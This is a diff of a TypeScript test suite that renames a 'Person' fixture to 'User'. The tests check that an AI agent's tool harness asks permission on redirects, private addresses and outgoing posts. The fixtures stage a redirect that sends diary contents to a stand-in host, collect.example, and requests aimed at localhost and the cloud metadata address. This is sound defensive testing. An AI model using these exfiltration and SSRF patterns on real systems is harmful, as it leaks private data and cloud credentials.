@@ -9,7 +9,7 @@ import type { EventOf } from '../../../src-preload/contract/events.ts';
 import { allowAll } from '../../fixtures/allow-all.ts';
 import { MemoryEvents } from '../../fixtures/memory-events.ts';
 import { forgottenImages } from '../../fixtures/memory-images.ts';
-import { gateWith, no, Person, yesOnce } from '../../fixtures/memory-ports.ts';
+import { gateWith, no, User, yesOnce } from '../../fixtures/memory-ports.ts';
 import { noProvenance } from '../../fixtures/no-provenance.ts';
 import { noSecrets } from '../../fixtures/no-secrets.ts';
 import { ToolHarness } from '../../fixtures/tool-harness.ts';
@@ -62,7 +62,7 @@ describe('a redirect asks like a separate call', () => {
       '/page': html('<p>read me</p>'),
       '/on': redirect('https://collect.example/?q=dear+diary'),
     });
-    const person = new Person((request) => {
+    const user = new User((request) => {
       const urls = request.kind === 'tool' ? request.access.map((access) => ('url' in access ? access.url : '')) : [];
       return urls.some((url) => url.includes('collect.example')) ? no : yesOnce;
     });
@@ -71,7 +71,7 @@ describe('a redirect asks like a separate call', () => {
       looked.push(hostname);
       return [{ address: '93.184.215.14', family: 4 }];
     };
-    const { run, outcomes, harness: it, close } = conversation(person, lookup, `read ${site.url} and diary.md`);
+    const { run, outcomes, harness: it, close } = conversation(user, lookup, `read ${site.url} and diary.md`);
     it.put('diary.md', 'dear diary');
     await run('read_file', { path: 'diary.md' });
     await run('web_fetch', { url: `${site.url}/page` });
@@ -79,7 +79,7 @@ describe('a redirect asks like a separate call', () => {
     expect(redirected).toMatchObject({ outcome: 'declined', text: expect.stringContaining('web_fetch') });
     expect(outcomes()).toEqual(['completed', 'completed', 'declined']);
     expect(looked).toEqual([]);
-    const asked = person.asked.at(-1);
+    const asked = user.asked.at(-1);
     expect(asked).toMatchObject({
       tool: 'web_fetch',
       input: { url: `${site.url}/on` },
@@ -96,11 +96,11 @@ describe('a redirect asks like a separate call', () => {
   test('from a public page to this machine is asked about; a no ends it', async () => {
     const inner = await startWebSite({ '/admin': page('keys', 'text/plain') });
     const site = await startWebSite({ '/': redirect(`http://127.0.0.1:${inner.port}/admin`) });
-    const person = new Person((_request, asked) => (asked === 1 ? yesOnce : no));
-    const { run, close } = conversation(person, HERE, 'go');
+    const user = new User((_request, asked) => (asked === 1 ? yesOnce : no));
+    const { run, close } = conversation(user, HERE, 'go');
     const result = await run('web_fetch', { url: `http://pages.example:${site.port}/` });
     expect(result).toMatchObject({ outcome: 'declined' });
-    expect(person.asked.map((request) => (request.kind === 'tool' ? request.classes : []))).toEqual([
+    expect(user.asked.map((request) => (request.kind === 'tool' ? request.classes : []))).toEqual([
       ['network-private'],
       ['network-private'],
     ]);
@@ -111,12 +111,12 @@ describe('a redirect asks like a separate call', () => {
 
 test('a name that turns out to be this machine is asked about again, whatever was allowed as it was written', async () => {
   const site = await startWebSite({ '/': page('secret', 'text/plain') });
-  const person = new Person((_request, asked) => (asked === 1 ? yesOnce : no));
-  const { run, harness: it, close } = conversation(person, HERE, 'go');
+  const user = new User((_request, asked) => (asked === 1 ? yesOnce : no));
+  const { run, harness: it, close } = conversation(user, HERE, 'go');
   it.put('diary.md', 'dear diary');
   await run('read_file', { path: 'diary.md' });
   expect(await run('http_get', { url: `http://inner.example:${site.port}/` })).toMatchObject({ outcome: 'declined' });
-  expect(person.asked).toMatchObject([
+  expect(user.asked).toMatchObject([
     { reason: { code: 'address_composed' }, classes: ['network'] },
     { reason: { code: 'private_network' }, classes: ['network-private'] },
   ]);
@@ -125,11 +125,11 @@ test('a name that turns out to be this machine is asked about again, whatever wa
 });
 
 test('a name that leads to where a cloud machine hands out credentials is asked about each time', async () => {
-  const person = new Person(() => no);
+  const user = new User(() => no);
   const lookup = async () => [{ address: '169.254.169.254', family: 4 }];
-  const { run, close } = conversation(person, lookup, 'go');
+  const { run, close } = conversation(user, lookup, 'go');
   await run('web_fetch', { url: 'http://inner.example/latest/meta-data/' });
-  expect(person.asked).toMatchObject([
+  expect(user.asked).toMatchObject([
     { classes: ['network-private'], offers: [], access: [{ host: 'inner.example', isMetadata: true }] },
   ]);
   await close();
@@ -137,7 +137,7 @@ test('a name that leads to where a cloud machine hands out credentials is asked 
 
 test('sending shows who gets it and all of it, and nothing goes out before the yes', async () => {
   const site = await startWebSite({ '/': page('ok', 'text/plain') });
-  const person = new Person((request, asked) => {
+  const user = new User((request, asked) => {
     expect(site.connections()).toBe(0);
     expect(request).toMatchObject({
       classes: ['send'],
@@ -148,7 +148,7 @@ test('sending shows who gets it and all of it, and nothing goes out before the y
     });
     return asked === 1 ? no : yesOnce;
   });
-  const { run, close } = conversation(person, HERE, 'go');
+  const { run, close } = conversation(user, HERE, 'go');
   const input = { url: site.url, body: { to: 'a@example.org', text: 'x'.repeat(5_000) } };
   expect(await run('http_post', input)).toMatchObject({ outcome: 'declined' });
   expect(await run('http_post', input)).toMatchObject({ outcome: 'completed', text: '200 OK (2 bytes)\n\nok' });
